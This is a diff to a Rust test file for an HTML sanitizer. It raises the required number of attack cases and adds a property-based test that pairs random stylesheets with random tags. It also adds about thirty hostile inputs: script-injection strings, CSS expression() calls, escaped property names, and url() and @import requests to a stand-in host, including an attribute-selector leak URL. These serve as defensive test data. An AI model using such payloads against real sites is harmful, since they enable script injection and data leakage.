@@ -157,7 +157,7 @@ fn holds(input: &str) -> Result<(), String> {
 
 #[test]
 fn no_attack_leaves_anything_behind() {
-    assert!(ATTACKS.len() >= 150, "{}", ATTACKS.len());
+    assert!(ATTACKS.len() >= 180, "{}", ATTACKS.len());
     for attack in ATTACKS {
         holds(attack).unwrap();
         // The same inside of what changes how a parser reads.
@@ -223,6 +223,50 @@ proptest! {
         prop_assert_eq!(holds(&html), Ok(()));
     }
 }
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 300, failure_persistence: None, ..ProptestConfig::default() })]
+    #[test]
+    fn no_sheet_beside_a_heap_of_tags_gets_through_or_changes_when_read_again(
+        rules in proptest::collection::vec((0usize..14, 0usize..14, 0..DECLARED.len()), 0..12),
+        tags in proptest::collection::vec((0usize..10, 0..TAGS.len(), 0usize..6), 0..30),
+        noise in "[{}:;@.#>*,()'\"\\\\!/a-z<-]{0,12}",
+    ) {
+        let names = ["p", "td", "*", "div", "li", "a", ".a", ".b", "#c", "tr", "body", "p.a", "img", "span"];
+        let sheet: String = rules.iter().map(|(outer, inner, says)| {
+            let gap = [" ", ">", ","][(outer + inner) % 3];
+            format!("{}{gap}{}{{{}}}", names[*outer], names[*inner], DECLARED[*says])
+        }).collect();
+        let body: String = tags.iter().map(|(how, tag, class)| {
+            let (tag, class) = (TAGS[*tag], ["a", "b", "a b", "c", "", "x"][*class]);
+            match how {
+                0..=5 => format!("<{tag} class='{class}' id={}>x", if class == "c" { "c" } else { "d" }),
+                6..=8 => format!("</{tag}>y"),
+                _ => format!("<{tag} class=a style='color:blue;margin:1px !important'>z"),
+            }
+        }).collect();
+        prop_assert_eq!(holds(&format!("<style>{sheet}{noise}</style><body>{body}")), Ok(()));
+        prop_assert_eq!(holds(&format!("{body}<style>{noise}{sheet}</style>{body}")), Ok(()));
+    }
+}
+
+/// What rules say, allowed and not.
+const DECLARED: &[&str] = &[
+    "color:red",
+    "color:blue!important",
+    "margin:1px 2px",
+    "margin-top:-5px;padding:3%",
+    "position:fixed;top:0",
+    "background:url(http://a.test/1) #fff",
+    "display:none",
+    "font:italic bold 12px/1.5 Georgia, serif",
+    "font-family:'A B',c, \"d\"",
+    "width:expression(1)",
+    "border:1px solid rgba(1,2,3,.5) !important",
+    "--x:1;color:var(--x)",
+    "w\\69 dth:1em;line-height:1.23456",
+    "}p{",
+];
 
 const ATTACKS: &[&str] = &[
     // Scripts and handlers.
@@ -353,6 +397,37 @@ const ATTACKS: &[&str] = &[
     "<p style='background:url( \"http://a.test/1\" ) , url(http://a.test/2)'>x</p><p style='src:local(x)'>y</p>",
     "<font color='expression(alert(1))' face='\"><script>alert(1)</script>' size='9999'>x</font>",
     "<td width='expression(alert(1))' height='url(x)' bgcolor='javascript:alert(1)'>x</td>",
+    // Rules of sheets, which are put into the tags they mean.
+    "<style>p{position:fixed;top:0;left:0;width:100%;height:100%;z-index:9}</style><p>cover</p>",
+    "<style>*{background:url(http://a.test/1);behavior:url(x.htc);-moz-binding:url(http://a.test#x)}</style><p>x</p>",
+    "<style>p{width:expression(alert(1));color:ex/**/pression(alert(1))}</style><p style='color:red'>x</p>",
+    "<style>p{pos\\69tion:fixed;\\62 ackground:u\\72l(http://a.test/1);c\\6flor:red}</style><p>x</p>",
+    "<style>p{color:red\"onclick=\"alert(1)}.a{font-family:'\"><script>alert(1)</script>'}</style><p class=a>x</p>",
+    "<style>p{font-family:'&quot; onclick=&quot;alert(1)'}</style><p style='font-family:&quot;a&quot;'>x</p>",
+    "<style>p{color:red}</style/><p>x</p><style>p{color:blue}</style x=\"><script>alert(1)</script>\"><p>y</p>",
+    "<style>@import url(http://a.test/1);@import 'http://a.test/2' screen;p{color:red}</style><p>x</p>",
+    "<style>@media screen{@import 'http://a.test/1';p{background:image-set('http://a.test/2' 1x)}}</style><p>x</p>",
+    "<style>@font-face{font-family:x;src:url(http://a.test/1)}p{font-family:x}</style><p>x</p>",
+    "<style>p::before{content:url(http://a.test/1)}p:hover{background:url(http://a.test/2)}</style><p>x</p>",
+    "<style>p[title^=a]{background:url(http://a.test/leak?a)}</style><p title=ab>x</p>",
+    "<style>.s{display:none}.m{font-size:0;line-height:0;opacity:0;color:#fff}</style><p class=s>hidden</p><p class=m>faint</p>",
+    "<style>div div div div div div>p{color:red}</style><div><div><div><div><div><div><p>x",
+    "<style>p{color:red}p{color:red}p{color:red!important}p{margin:-9px!important}</style><p style='margin:-1px'>x</p>",
+    "<style>a{color:red;text-decoration:none}a:visited{background:url(http://a.test/v)}</style><a href='javascript:alert(1)'>x</a><a href='https://a.test'>y</a>",
+    "<style>\u{0}p{color:red}p\u{0}{color:blue}\\0 p{color:green}</style><p>x</p>",
+    "<style>{}}{}}}p{color:red}{{{{p{color:blue}</style><p>x</p>",
+    "<style>p{color:red;{position:fixed}width:1px}</style><p>x</p><style>p{((((((((((((((((color:red",
+    "<style>p{--x:expression(1);all:unset;inset:0;display:flex;display:block}</style><p>x</p>",
+    "<style media=print>p{color:red}</style><style type=text/javascript>p{color:blue}</style><p>x</p>",
+    "<style><!-- p{color:red} --></style><style>/*</style><p>x</p><style>*/p{color:red}</style>",
+    "<svg><style>p{position:fixed;color:red}</style></svg><math><style>p{color:blue}</style></math><p>x</p>",
+    "<noscript><style>p{color:red}</style></noscript><template><style>p{color:blue}</style></template><p>x</p>",
+    "<style>table>tbody>tr>td.k{color:red}li li{color:blue}</style><table><td class=k>x<table><li><li>y</table>z",
+    "<style>body,html{background:url(http://a.test/1) red;position:fixed;color:blue}</style><body onload=alert(1)><p>x<body style='color:green'>",
+    "<style>body{font-family:x}</style><table><body><tr><td></div>x</table></body></html>y",
+    "<style>img{width:1px;height:1px;display:none}</style><img src='http://a.test/1'><img src='cid:a'>",
+    "<style>*{color:red}details{display:none}summary{display:none}</style><details open><summary>x</summary>y</details>",
+    "<p class='\"><script>alert(1)</script>' id='\"onclick=x'>x</p><style>.\\\"\\>\\<script\\>{color:red}</style>",
     // SVG and MathML.
     "<svg onload=alert(1)><script>alert(1)</script></svg>",
     "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
